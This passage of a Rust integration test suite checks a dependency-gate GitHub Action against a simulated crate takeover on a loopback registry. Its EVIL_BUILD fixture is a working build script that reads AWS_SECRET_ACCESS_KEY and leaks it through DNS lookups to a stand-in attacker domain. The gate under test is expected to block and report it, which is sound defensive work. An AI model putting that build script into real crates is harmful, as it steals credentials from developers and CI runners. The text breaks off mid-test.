//! The GitHub Action (`action.yml` at the repository root) run by a harness that imitates a
//! runner: each `run:` step goes to `bash --noprofile --norc -eo pipefail` with the step's
//! evaluated `env:` and `working-directory`, fresh GITHUB_OUTPUT / GITHUB_STEP_SUMMARY /
//! GITHUB_PATH files, GITHUB_EVENT_PATH holding a pull_request payload, and GITHUB_WORKSPACE a
//! clone of a fixture repository with a base and a head commit; `${{ ... }}` expressions are
//! evaluated as the runner would (inputs with their defaults, github.*, runner.*, steps.*).
//! `uses:` steps (the cache) are not run: a cache miss. `cargo install` is answered by a stand-in
//! `cargo` on PATH that records its arguments and links the binary under test instead of
//! building it; `id`, `sudo` and `sysctl` stand-ins play a non-root runner user whose sysctl
//! flips a copy of /proc/sys, so this machine's kernel settings are never touched. The fixture
//! is the takeover of `fortify.rs`: a sparse registry on loopback, lockfiles written by real
//! cargo, the sandboxed build run for real.

mod common;

use common::*;
use saphyr::{LoadableYamlNode, YamlOwned};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const NOW: &str = "2026-11-25T12:00:00Z";

// ---------------------------------------------------------------------------------------------
// The fixture: a registry on loopback and a repository with a base and two heads.

const EVIL_BUILD: &str = r#"use std::net::ToSocketAddrs;

fn main() {
    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
    let hex: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let labels: Vec<&str> = hex.as_bytes().chunks(60).map(|c| std::str::from_utf8(c).unwrap()).collect();
    let _ = format!("{}.exfil.attacker.invalid:53", labels.join(".")).to_socket_addrs();
    println!("cargo:rerun-if-changed=build.rs");
}
"#;

fn publish(
    name: &str,
    version: &str,
    pubtime: &str,
    deps: &str,
    files: &[(&str, &str)],
) -> reflex::drill::registry::Publish {
    let mut all = std::collections::BTreeMap::new();
    all.insert(
        "Cargo.toml".to_string(),
        format!(
            "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"utilities\"\n{deps}"
        ),
    );
    all.extend(files.iter().map(|(p, t)| (p.to_string(), t.to_string())));
    reflex::drill::registry::Publish {
        name: name.into(),
        version: version.into(),
        registry: None,
        files: all,
        pubtime: pubtime.into(),
    }
}

/// Before the takeover: rust-utilities-v2 2.1.0 and an old, harmless text-tidy.
fn before() -> Vec<reflex::drill::registry::Publish> {
    vec![
        publish(
            "rust-utilities-v2",
            "2.1.0",
            "2024-02-01T10:00:00Z",
            "",
            &[(
                "src/lib.rs",
                "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n",
            )],
        ),
        publish(
            "text-tidy",
            "1.4.0",
            "2023-05-10T08:00:00Z",
            "",
            &[(
                "src/lib.rs",
                "pub fn tidy(s: &str) -> String {\n    s.split_whitespace().collect::<Vec<_>>().join(\" \")\n}\n",
            )],
        ),
    ]
}

/// The takeover: 2.1.1 adds url-parse, whose build script leaks a secret through DNS.
fn takeover() -> Vec<reflex::drill::registry::Publish> {
    let mut all = before();
    all.push(publish(
        "rust-utilities-v2",
        "2.1.1",
        "2026-11-24T20:00:00Z",
        "\n[dependencies]\nurl-parse = \"0.1\"\n",
        &[(
            "src/lib.rs",
            "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n\npub use url_parse::parse;\n",
        )],
    ));
    all.push(publish(
        "url-parse",
        "0.1.0",
        "2026-11-24T19:30:00Z",
        "",
        &[
            ("build.rs", EVIL_BUILD),
            ("src/lib.rs", "pub fn parse(s: &str) -> &str {\n    s\n}\n"),
        ],
    ));
    all
}

fn registry(
    releases: &[reflex::drill::registry::Publish],
) -> (String, reflex::drill::registry::Registry) {
    let (url, server) = server();
    server.publish(releases).unwrap();
    (url, server)
}

/// A cargo home whose crates.io is the loopback registry.
fn cargo_home(dir: &Path, registry: &str) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("config.toml"),
        format!(
            "[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nregistry = \"sparse+{registry}\"\n\n[net]\nretry = 0\n"
        ),
    )
    .unwrap();
    dir.to_path_buf()
}

fn real_cargo() -> String {
    std::env::var("CARGO").unwrap_or_else(|_| "cargo".into())
}

fn cargo(ws: &Path, home: &Path, args: &[&str]) {
    let out = Command::new(real_cargo())
        .args(args)
        .current_dir(ws)
        .env("CARGO_HOME", home)
        .env_remove("CARGO_TARGET_DIR")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "cargo {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The repository a pull request comes from: `main` (the base: app at rust-utilities-v2 2.1.0
/// with the policy `init` wrote), `clean` (adds text-tidy 1.4.0, published in 2023) and
/// `hostile` (the takeover bump), plus the registry every later run sees.
struct Fixture {
    tmp: tempfile::TempDir,
    origin: PathBuf,
    base: String,
    clean: String,
    hostile: String,
    registry: String,
    _servers: Vec<reflex::drill::registry::Registry>,
}

impl Fixture {
    fn new() -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let origin = tmp.path().join("origin");
        std::fs::create_dir_all(origin.join("src")).unwrap();
        let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n";
        std::fs::write(origin.join("Cargo.toml"), manifest).unwrap();
        std::fs::write(
            origin.join("src/main.rs"),
            "fn main() {\n    println!(\"{}\", rust_utilities_v2::trim(\" hi \"));\n}\n\n#[test]\nfn trims() {\n    assert_eq!(rust_utilities_v2::trim(\" a \"), \"a\");\n}\n",
        )
        .unwrap();
        std::fs::write(origin.join(".gitignore"), "/target\n/__*\n").unwrap();
        let (before_url, before_server) = registry(&before());
        cargo(
            &origin,
            &cargo_home(&tmp.path().join("home-before"), &before_url),
            &["generate-lockfile"],
        );
        let (url, full_server) = registry(&takeover());
        let home = cargo_home(&tmp.path().join("home-full"), &url);
        let init = run_with(
            &origin,
            &[
                "init",
                "--now",
                NOW,
                "--no-fetch",
                "--cargo-home",
                "__cargo-home",
            ],
            &[("CARGO_REFLEX_CRATES_IO_INDEX", &url)],
            None,
        );
        assert_eq!(init.code, 0, "{}{}", init.stdout, init.stderr);
        git(&origin, &["init", "-q", "-b", "main"]);
        git(&origin, &["add", "-A"]);
        git(
            &origin,
            &["commit", "-q", "-m", "app at rust-utilities-v2 2.1.0"],
        );
        let base = git_out(&origin, &["rev-parse", "HEAD"]);

        git(&origin, &["checkout", "-q", "-b", "clean"]);
        std::fs::write(
            origin.join("Cargo.toml"),
            format!("{manifest}text-tidy = \"1.4\"\n"),
        )
        .unwrap();
        // metadata adds the new crate and keeps every other locked version.
        cargo(&origin, &home, &["metadata", "-q", "--format-version", "1"]);
        git(&origin, &["commit", "-q", "-am", "add text-tidy"]);
        let clean = git_out(&origin, &["rev-parse", "HEAD"]);

        git(&origin, &["checkout", "-q", "-b", "hostile", "main"]);
        cargo(&origin, &home, &["update", "-q", "-p", "rust-utilities-v2"]);
        git(&origin, &["commit", "-q", "-am", "bump rust-utilities-v2"]);
        let hostile = git_out(&origin, &["rev-parse", "HEAD"]);
        git(&origin, &["checkout", "-q", "main"]);
        Fixture {
            tmp,
            origin,
            base,
            clean,
            hostile,
            registry: url,
            _servers: vec![before_server, full_server],
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The runner.

fn action_yml(path: &Path) -> YamlOwned {
    let text = std::fs::read_to_string(path).unwrap();
    YamlOwned::load_from_str(&text)
        .unwrap()
        .into_iter()
        .next()
        .unwrap()
}

fn scalar(y: &YamlOwned) -> Option<String> {
    if let Some(s) = y.as_str() {
        return Some(s.to_string());
    }
    if let Some(b) = y.as_bool() {
        return Some(b.to_string());
    }
    y.as_integer().map(|i| i.to_string())
}

fn entries(y: &YamlOwned) -> Vec<(String, &YamlOwned)> {
    y.as_mapping()
        .map(|m| m.iter().map(|(k, v)| (scalar(k).unwrap(), v)).collect())
        .unwrap_or_default()
}

/// An expression's value, as far as these expressions need: strings, booleans and null.
#[derive(Clone, Debug, PartialEq)]
enum Val {
    Str(String),
    Bool(bool),
    Null,
}

impl Val {
    fn truthy(&self) -> bool {
        match self {
            Val::Str(s) => !s.is_empty(),
            Val::Bool(b) => *b,
            Val::Null => false,
        }
    }
    fn text(&self) -> String {
        match self {
            Val::Str(s) => s.clone(),
            Val::Bool(b) => b.to_string(),
            Val::Null => String::new(),
        }
    }
}

/// What expressions can see: the contexts of a composite action's step.
struct Contexts {
    inputs: BTreeMap<String, String>,
    github: Value,
    runner: Value,
    steps: BTreeMap<String, (BTreeMap<String, String>, &'static str)>,
    failed: bool,
}

impl Contexts {
    fn lookup(&self, path: &str) -> Val {
        let parts: Vec<&str> = path.split('.').collect();
        let json_at = |root: &Value, rest: &[&str]| {
            let mut v = root;
            for p in rest {
                match v.get(p) {
                    Some(next) => v = next,
                    None => return Val::Null,
                }
            }
            match v {
                Value::String(s) => Val::Str(s.clone()),
                Value::Bool(b) => Val::Bool(*b),
                Value::Null => Val::Null,
                other => Val::Str(other.to_string()),
            }
        };
        match parts.as_slice() {
            ["inputs", name] => Val::Str(
                self.inputs
                    .get(*name)
                    .unwrap_or_else(|| panic!("the action reads an undeclared input: {name}"))
                    .clone(),
            ),
            ["github", rest @ ..] => json_at(&self.github, rest),
            ["runner", rest @ ..] => json_at(&self.runner, rest),
            ["steps", id, "outputs", name] => self
                .steps
                .get(*id)
                .and_then(|(o, _)| o.get(*name))
                .map(|v| Val::Str(v.clone()))
                .unwrap_or(Val::Null),
            ["steps", id, "outcome"] => Val::Str(
                self.steps
                    .get(*id)
                    .map(|(_, o)| o.to_string())
                    .unwrap_or_default(),
            ),
            _ => panic!("the harness does not know the context of `{path}`"),
        }
    }
}

/// A recursive-descent evaluator for `||`, `&&`, `==`, `!=`, `!`, parentheses, 'strings',
/// context paths and success() / failure() / always().
struct Expr<'a> {
    toks: Vec<String>,
    pos: usize,
    cx: &'a Contexts,
}

impl<'a> Expr<'a> {
    fn eval(text: &str, cx: &'a Contexts) -> Val {
        let mut toks = Vec::new();
        let chars: Vec<char> = text.chars().collect();
        let mut i = 0;
        while i < chars.len() {
            let c = chars[i];
            if c.is_whitespace() {
                i += 1;
            } else if c == '\'' {
                let mut s = String::from("'");
                i += 1;
                while i < chars.len() {
                    if chars[i] == '\'' {
                        if chars.get(i + 1) == Some(&'\'') {
                            s.push('\'');
                            i += 2;
                            continue;
                        }
                        break;
                    }
                    s.push(chars[i]);
                    i += 1;
                }
                i += 1;
                toks.push(s);
            } else if let Some(op) = ["==", "!=", "&&", "||"]
                .into_iter()
                .find(|op| chars[i..].iter().take(2).collect::<String>() == *op)
            {
                toks.push(op.to_string());
                i += 2;
            } else if "!()".contains(c) {
                toks.push(c.to_string());
                i += 1;
            } else {
                let start = i;
                while i < chars.len() && (chars[i].is_alphanumeric() || "._-".contains(chars[i])) {
                    i += 1;
                }
                assert!(i > start, "unexpected `{c}` in `{text}`");
                toks.push(chars[start..i].iter().collect());
            }
        }
        let mut e = Expr { toks, pos: 0, cx };
        let v = e.or();
        assert_eq!(e.pos, e.toks.len(), "unparsed rest of `{text}`");
        v
    }

    fn peek(&self) -> Option<&str> {
        self.toks.get(self.pos).map(String::as_str)
    }

    fn or(&mut self) -> Val {
        let mut v = self.and();
        while self.peek() == Some("||") {
            self.pos += 1;
            let r = self.and();
            if !v.truthy() {
                v = r;
            }
        }
        v
    }

    fn and(&mut self) -> Val {
        let mut v = self.cmp();
        while self.peek() == Some("&&") {
            self.pos += 1;
            let r = self.cmp();
            if v.truthy() {
                v = r;
            }
        }
        v
    }

    fn cmp(&mut self) -> Val {
        let l = self.unary();
        match self.peek() {
            Some(op @ ("==" | "!=")) => {
                let eq = op == "==";
                self.pos += 1;
                let r = self.unary();
                // GitHub compares strings ignoring case; null equals the empty string here.
                let same = l.text().eq_ignore_ascii_case(&r.text());
                Val::Bool(same == eq)
            }
            _ => l,
        }
    }

    fn unary(&mut self) -> Val {
        match self.peek() {
            Some("!") => {
                self.pos += 1;
                Val::Bool(!self.unary().truthy())
            }
            Some("(") => {
                self.pos += 1;
                let v = self.or();
                assert_eq!(self.peek(), Some(")"));
                self.pos += 1;
                v
            }
            Some(t) if t.starts_with('\'') => {
                let v = Val::Str(t[1..].to_string());
                self.pos += 1;
                v
            }
            Some(t) => {
                let t = t.to_string();
                self.pos += 1;
                if self.peek() == Some("(") {
                    self.pos += 1;
                    assert_eq!(self.peek(), Some(")"), "functions here take no arguments");
                    self.pos += 1;
                    return match t.as_str() {
                        "success" => Val::Bool(!self.cx.failed),
                        "failure" => Val::Bool(self.cx.failed),
                        "always" => Val::Bool(true),
                        f => panic!("the harness does not know {f}()"),
                    };
                }
                match t.as_str() {
                    "true" => Val::Bool(true),
                    "false" => Val::Bool(false),
                    "null" => Val::Null,
                    path => self.cx.lookup(path),
                }
            }
            None => panic!("expression ends early"),
        }
    }
}

/// Replaces every `${{ expr }}` in `text`.
fn substitute(text: &str, cx: &Contexts) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").expect("unclosed ${{") + start;
        out.push_str(&Expr::eval(&rest[start + 3..end], cx).text());
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

#[derive(Debug)]
struct StepRun {
    name: String,
    /// "success", "failure" or "skipped", as `steps.<id>.outcome` says.
    outcome: &'static str,
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

#[derive(Debug)]
struct ActionRun {
    steps: Vec<StepRun>,
    outputs: BTreeMap<String, String>,
    summary: String,
}

impl ActionRun {
    fn step(&self, name: &str) -> &StepRun {
        self.steps
            .iter()
            .find(|s| s.name.starts_with(name))
            .unwrap_or_else(|| panic!("no step {name}: {:#?}", self.steps))
    }
    fn failed(&self) -> Option<&StepRun> {
        self.steps.iter().find(|s| s.outcome == "failure")
    }
    fn out(&self, name: &str) -> &str {
        self.outputs
            .get(name)
            .map(String::as_str)
            .unwrap_or_else(|| panic!("no output {name}"))
    }
    fn count(&self, name: &str) -> u64 {
        self.out(name)
            .parse()
            .unwrap_or_else(|_| panic!("output {name} is not a number: {:?}", self.out(name)))
    }
    fn log(&self) -> String {
        self.steps
            .iter()
            .map(|s| {
                format!(
                    "== {} ({}, {:?})\n{}{}",
                    s.name, s.outcome, s.code, s.stdout, s.stderr
                )
            })
            .collect()
    }
}

/// Reads `name=value` and `name<<DELIMITER` blocks, as the runner reads GITHUB_OUTPUT.
fn parse_outputs(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if let Some((name, delim)) = line.split_once("<<") {
            let mut value = Vec::new();
            for l in lines.by_ref() {
                if l == delim {
                    break;
                }
                value.push(l);
            }
            out.insert(name.to_string(), value.join("\n"));
        } else if let Some((name, value)) = line.split_once('=') {
            out.insert(name.to_string(), value.to_string());
        }
    }
    out
}

/// A job on a runner: its directories, environment and the pull_request event.
struct Job {
    tmp: tempfile::TempDir,
    workspace: PathBuf,
    env: Vec<(String, String)>,
    github: Value,
    install_log: PathBuf,
}

impl Job {
    /// A runner checked out at `head` of the fixture (`depth`: a shallow clone, as
    /// actions/checkout makes by default), for a pull request from `head` into the base.
    fn new(fx: &Fixture, head: &str, depth: Option<u32>) -> Job {
        let tmp = tempfile::tempdir_in(fx.tmp.path()).unwrap();
        let workspace = tmp.path().join("work/app");
        let url = format!("file://{}", fx.origin.display());
        let mut clone = vec!["clone", "-q", "--no-tags"];
        let depth_arg = depth.map(|d| format!("--depth={d}"));
        if let Some(d) = &depth_arg {
            clone.push(d);
        }
        let branch = if head == fx.clean { "clean" } else { "hostile" };
        clone.extend(["-b", branch, &url]);
        let ws = workspace.display().to_string();
        clone.push(&ws);
        git(fx.tmp.path(), &clone);
        assert_eq!(git_out(&workspace, &["rev-parse", "HEAD"]), head);
        for d in ["home", "temp", "tool-cache", "bin", "reflex-cache"] {
            std::fs::create_dir_all(tmp.path().join(d)).unwrap();
        }
        // The action as the runner downloads it: a snapshot of this repository's files (the
        // work tree may change under a running test).
        let action_path = tmp.path().join("action");
        for f in ["action.yml", "Cargo.toml", "Cargo.lock"] {
            std::fs::create_dir_all(&action_path).unwrap();
            std::fs::copy(repo().join(f), action_path.join(f)).unwrap();
        }
        for d in ["crates", "data"] {
            copy_dir(&repo().join(d), &action_path.join(d));
        }
        let event = json!({
            "action": "synchronize",
            "number": 7,
            "pull_request": {
                "number": 7,
                "base": { "ref": "main", "sha": fx.base },
                "head": { "ref": branch, "sha": head },
            },
        });
        let event_path = tmp.path().join("event.json");
        std::fs::write(&event_path, event.to_string()).unwrap();
        // `cargo install` stands in for the build of cargo-reflex: it records what it was
        // asked and links the binary under test where the real install would put it.
        let install_log = tmp.path().join("cargo-install.log");
        let fake = format!(
            "#!/bin/sh\nif [ \"$1\" = install ]; then\n  echo \"$*\" >> '{log}'\n  root=\n  while [ $# -gt 0 ]; do [ \"$1\" = --root ] && root=$2; shift; done\n  mkdir -p \"$root/bin\" && ln -sf '{bin}' \"$root/bin/cargo-reflex\"\n  exit 0\nfi\nexec '{cargo}' \"$@\"\n",
            log = install_log.display(),
            bin = env!("CARGO_BIN_EXE_cargo-reflex"),
            cargo = real_cargo(),
        );
        let fake_path = tmp.path().join("bin/cargo");
        std::fs::write(&fake_path, fake).unwrap();
        Command::new("chmod")
            .arg("+x")
            .arg(&fake_path)
            .status()
            .unwrap();
        let cargo_home = cargo_home(&tmp.path().join("cargo-home"), &fx.registry);
        let real_home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
        let path = |p: &str| tmp.path().join(p).display().to_string();
        let mut env = vec![
            (
                "PATH".to_string(),
                format!(
                    "{}:{}",
                    path("bin"),
                    std::env::var("PATH").unwrap_or_default()
                ),
            ),
            ("HOME".into(), path("home")),
            (
                "RUSTUP_HOME".into(),
                std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{real_home}/.rustup")),
            ),
            // The sandboxed build runs the real cargo, not the stand-in.
            ("CARGO".into(), real_cargo()),
            ("CARGO_HOME".into(), cargo_home.display().to_string()),
            ("CARGO_REFLEX_CACHE".into(), path("reflex-cache")),
            ("CARGO_REFLEX_CRATES_IO_INDEX".into(), fx.registry.clone()),
            (
                "CARGO_REFLEX_DB_URL".into(),
                "file:///nonexistent/advisory-db".into(),
            ),
            ("NO_COLOR".into(), "1".into()),
            ("CI".into(), "true".into()),
            ("GITHUB_ACTIONS".into(), "true".into()),
            ("GITHUB_EVENT_NAME".into(), "pull_request".into()),
            ("GITHUB_EVENT_PATH".into(), event_path.display().to_string()),
            ("GITHUB_WORKSPACE".into(), ws.clone()),
            (
                "GITHUB_ACTION_PATH".into(),
                action_path.display().to_string(),
            ),
            ("GITHUB_REPOSITORY".into(), "acme/app".into()),
            ("GITHUB_SHA".into(), head.into()),
            ("RUNNER_OS".into(), "Linux".into()),
            ("RUNNER_ARCH".into(), "X64".into()),
            ("RUNNER_TEMP".into(), path("temp")),
            ("RUNNER_TOOL_CACHE".into(), path("tool-cache")),
        ];
        if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
            env.push(("RUSTUP_TOOLCHAIN".into(), t));
        }
        let github = json!({
            "event_name": "pull_request",
            "event": event,
            "workspace": ws,
            "action_path": action_path.display().to_string(),
            "action_ref": "",
            "repository": "acme/app",
            "sha": head,
        });
        Job {
            tmp,
            workspace,
            env,
            github,
            install_log,
        }
    }

    fn set_env(&mut self, key: &str, value: &str) {
        self.env.retain(|(k, _)| k != key);
        self.env.push((key.into(), value.into()));
    }

    fn path(&self, p: &str) -> PathBuf {
        self.tmp.path().join(p)
    }

    /// Runs one `run:` step: (outputs, outcome, exit code, stdout, stderr).
    fn run_script(
        &self,
        i: usize,
        name: &str,
        step: &YamlOwned,
        cx: &Contexts,
        env: &mut Vec<(String, String)>,
        summary: &mut String,
    ) -> (
        BTreeMap<String, String>,
        &'static str,
        Option<i32>,
        String,
        String,
    ) {
        let script = step["run"].as_str().unwrap();
        assert!(
            !script.contains("${{"),
            "step {name}: expressions reach scripts through env:, never spliced in"
        );
        assert_eq!(step["shell"].as_str(), Some("bash"), "step {name}");
        let mut step_env = env.clone();
        for (k, v) in entries(&step["env"]) {
            step_env.retain(|(n, _)| *n != k);
            step_env.push((k, substitute(&scalar(v).unwrap(), cx)));
        }
        let files = self.path(&format!("step-{i}"));
        std::fs::create_dir_all(&files).unwrap();
        for f in ["output", "summary", "path", "env"] {
            std::fs::write(files.join(f), "").unwrap();
        }
        step_env.extend([
            (
                "GITHUB_OUTPUT".into(),
                files.join("output").display().to_string(),
            ),
            (
                "GITHUB_STEP_SUMMARY".into(),
                files.join("summary").display().to_string(),
            ),
            (
                "GITHUB_PATH".into(),
                files.join("path").display().to_string(),
            ),
            ("GITHUB_ENV".into(), files.join("env").display().to_string()),
        ]);
        std::fs::write(files.join("script.sh"), script).unwrap();
        let cwd = match step.as_mapping_get("working-directory").and_then(scalar) {
            Some(d) => self.workspace.join(substitute(&d, cx)),
            None => self.workspace.clone(),
        };
        let out = Command::new("bash")
            .args(["--noprofile", "--norc", "-eo", "pipefail"])
            .arg(files.join("script.sh"))
            .current_dir(cwd)
            .env_clear()
            .envs(step_env.iter().map(|(k, v)| (k, v)))
            .output()
            .unwrap();
        let code = out.status.code().unwrap_or(-1);
        let read = |f: &str| std::fs::read_to_string(files.join(f)).unwrap();
        summary.push_str(&read("summary"));
        for dir in read("path").lines() {
            let p = env.iter_mut().find(|(k, _)| k == "PATH").unwrap();
            p.1 = format!("{dir}:{}", p.1);
        }
        for (k, v) in parse_outputs(&read("env")) {
            env.retain(|(n, _)| *n != k);
            env.push((k, v));
        }
        (
            parse_outputs(&read("output")),
            if code == 0 { "success" } else { "failure" },
            Some(code),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// Runs the action's steps with these `with:` inputs, as a runner runs a composite action.
    fn run(&self, with: &[(&str, &str)]) -> ActionRun {
        let action = action_yml(&self.path("action/action.yml"));
        let mut inputs = BTreeMap::new();
        for (name, spec) in entries(&action["inputs"]) {
            inputs.insert(
                name,
                spec.as_mapping_get("default")
                    .and_then(scalar)
                    .unwrap_or_default(),
            );
        }
        for (k, v) in with {
            assert!(inputs.contains_key(*k), "the action has no input {k}");
            inputs.insert(k.to_string(), v.to_string());
        }
        let mut cx = Contexts {
            inputs,
            github: self.github.clone(),
            runner: json!({
                "os": "Linux",
                "arch": "X64",
                "temp": self.path("temp").display().to_string(),
                "tool_cache": self.path("tool-cache").display().to_string(),
            }),
            steps: BTreeMap::new(),
            failed: false,
        };
        let mut env = self.env.clone();
        let mut runs = Vec::new();
        let mut summary = String::new();
        let steps = action["runs"]["steps"].as_vec().unwrap();
        for (i, step) in steps.iter().enumerate() {
            let name = step
                .as_mapping_get("name")
                .and_then(scalar)
                .unwrap_or_else(|| format!("step {i}"));
            let id = step.as_mapping_get("id").and_then(scalar);
            let condition = step
                .as_mapping_get("if")
                .and_then(scalar)
                .unwrap_or_else(|| "success()".into());
            let condition = condition
                .trim()
                .strip_prefix("${{")
                .and_then(|c| c.strip_suffix("}}"))
                .map(str::to_string)
                .unwrap_or(condition);
            // A condition without a status function implies success().
            let has_status = ["success()", "failure()", "always()", "cancelled()"]
                .iter()
                .any(|f| condition.contains(f));
            let go = Expr::eval(&condition, &cx).truthy() && (has_status || !cx.failed);
            let (outputs, outcome, code, stdout, stderr) =
                if !go || step.as_mapping_get("uses").is_some() {
                    // `uses:` steps are not run here: actions from the network (the cache
                    // misses).
                    (
                        BTreeMap::new(),
                        "skipped",
                        None,
                        String::new(),
                        String::new(),
                    )
                } else {
                    self.run_script(i, &name, step, &cx, &mut env, &mut summary)
                };
            if code.is_some_and(|c| c != 0) {
                cx.failed = true;
            }
            if let Some(id) = &id {
                cx.steps.insert(id.clone(), (outputs, outcome));
            }
            runs.push(StepRun {
                name,
                outcome,
                code,
                stdout,
                stderr,
            });
        }
        let mut outputs = BTreeMap::new();
        for (name, spec) in entries(&action["outputs"]) {
            let value = spec.as_mapping_get("value").and_then(scalar).unwrap();
            outputs.insert(name, substitute(&value, &cx));
        }
        ActionRun {
            steps: runs,
            outputs,
            summary,
        }
    }
}

/// The gate's arguments for the fixture: a fixed clock, the advisory database not fetched.
const GATE_ARGS: &str = "--no-fetch --now 2026-11-25T12:00:00Z";

fn sarif_results(path: &str) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap();
    assert_valid_sarif(&text);
    let sarif: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    sarif["runs"][0]["results"].as_array().unwrap().clone()
}

fn severity_total(run: &ActionRun) -> u64 {
    ["critical", "high", "medium", "low", "info"]
        .iter()
        .map(|s| run.count(s))
        .sum()
}

// ---------------------------------------------------------------------------------------------
// The tests.

#[test]
fn clean_change_passes_with_summary_outputs_and_sarif() {
    let fx = Fixture::new();
    let job = Job::new(&fx, &fx.clean, None);
    let run = job.run(&[("args", GATE_ARGS)]);
    assert!(run.failed().is_none(), "{}", run.log());

    // Installed from the action's own source at its commit, with the lockfile.
    let log = std::fs::read_to_string(&job.install_log).unwrap();
    let expected = format!(
        "install --locked --path {}/crates/cargo-reflex --root {}/cargo-reflex/",
        job.path("action").display(),
        job.path("tool-cache").display()
    );
    assert!(log.starts_with(&expected), "{log}");
    assert!(
        run.step("Install").stdout.contains("cargo-reflex "),
        "{}",
        run.log()
    );
    // A second job on the same runner finds it (what the cache restores): no second install.
    let again = job.run(&[("args", GATE_ARGS)]);
    assert!(again.failed().is_none(), "{}", again.log());
    assert_eq!(std::fs::read_to_string(&job.install_log).unwrap(), log);

    assert_eq!(run.out("verdict"), "passed");
    assert_eq!(run.count("denied"), 0);
    let findings = run.count("findings");
    assert_eq!(severity_total(&run), findings, "{:?}", run.outputs);
    assert_eq!(run.count("critical") + run.count("high"), 0);
    let results = sarif_results(run.out("sarif"));
    assert_eq!(results.len() as u64, findings);
    assert!(
        run.out("sarif")
            .starts_with(&job.path("temp").display().to_string())
    );
    assert_eq!(run.out("build"), "skipped");
    assert_eq!(run.out("alerts"), "");
    assert!(run.out("bin").ends_with("/bin/cargo-reflex"));

    // The gate judged the pull request's change: text-tidy arrives, from the base commit.
    let gate = run.step("Gate");
    assert!(
        gate.stdout
            .lines()
            .any(|l| l.starts_with("::notice title=cargo-reflex gate::passed")),
        "{}",
        gate.stdout
    );
    assert!(run.summary.contains("text-tidy"), "{}", run.summary);
    assert!(!run.summary.contains("url-parse"), "{}", run.summary);
    assert!(run.step("Allow user namespaces").outcome == "skipped");
}

#[test]
fn hostile_change_fails_the_gate_with_annotations_and_skips_the_build() {
    let fx = Fixture::new();
    // actions/checkout's default: one commit; the action fetches the base it needs.
    let job = Job::new(&fx, &fx.hostile, Some(1));
    assert!(
        Command::new("git")
            .current_dir(&job.workspace)
            .args(["cat-file", "-e", &format!("{}^{{commit}}", fx.base)])
            .output()
            .unwrap()
            .status
            .code()
            != Some(0),
        "the clone is shallow"
    );
    let run = job.run(&[("args", GATE_ARGS), ("build", "true")]);
    let failed = run.failed().unwrap_or_else(|| panic!("{}", run.log()));
    assert!(failed.name.starts_with("Gate"), "{}", run.log());
    assert_eq!(failed.code, Some(1), "{}", run.log());
    assert_eq!(
        run.step("Build").outcome,
        "skipped",
        "nothing the gate denied is built"
    );
    assert_eq!(run.out("build"), "skipped");

    assert_eq!(run.out("verdict"), "failed");
    assert!(run.count("denied") >= 5, "{:?}", run.outputs);
    assert_eq!(severity_total(&run), run.count("findings"));
    assert!(run.count("critical") >= 1, "{:?}", run.outputs);
    let results = sarif_results(run.out("sarif"));
    assert_eq!(results.len() as u64, run.count("findings"));
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "build-script-not-approved"
                && r["properties"]["package"]["name"] == "url-parse"),
        "{results:#?}"
    );
    // Annotations on the lockfile line, then the verdict line.
    let gate = &failed.stdout;
    assert!(
        gate.lines()
            .any(|l| l.starts_with("::error file=Cargo.lock,line=") && l.contains("url-parse")),
        "{gate}"
    );
    assert!(
        gate.lines()
            .any(|l| l.starts_with("::notice title=cargo-reflex gate::FAILED")),
        "{gate}"
    );
    // The job summary is the review: what arrived, why, and the build script's diff.
    for what in ["rust-utilities-v2", "url-parse", "AWS_SECRET_ACCESS_KEY"] {
        assert!(run.summary.contains(what), "{what}: {}", run.summary);
    }

    // fail-on-findings: false reports the same verdict without failing the step.
    let report_only = job.run(&[("args", GATE_ARGS), ("fail-on-findings", "false")]);
    assert!(report_only.failed().is_none(), "{}", report_only.log());
    assert_eq!(report_only.out("verdict"), "failed");
    assert_eq!(report_only.out("denied"), run.out("denied"));
}

#[test]
fn gate_error_is_an_error_not_a_verdict() {
    let fx = Fixture::new();
    let job = Job::new(&fx, &fx.clean, None);
    let run = job.run(&[("args", GATE_ARGS), ("policy", "missing.toml")]);
    let failed = run.failed().unwrap_or_else(|| panic!("{}", run.log()));
    assert!(failed.name.starts_with("Gate"));
    assert_eq!(failed.code, Some(2), "{}", run.log());
    assert_eq!(run.out("verdict"), "error");
    assert!(
        failed.stdout.contains("::error title=cargo-reflex::"),
        "{}",
        failed.stdout
    );
    // A base that is nowhere: the message says how to check out.
    let run = job.run(&[
        ("args", GATE_ARGS),
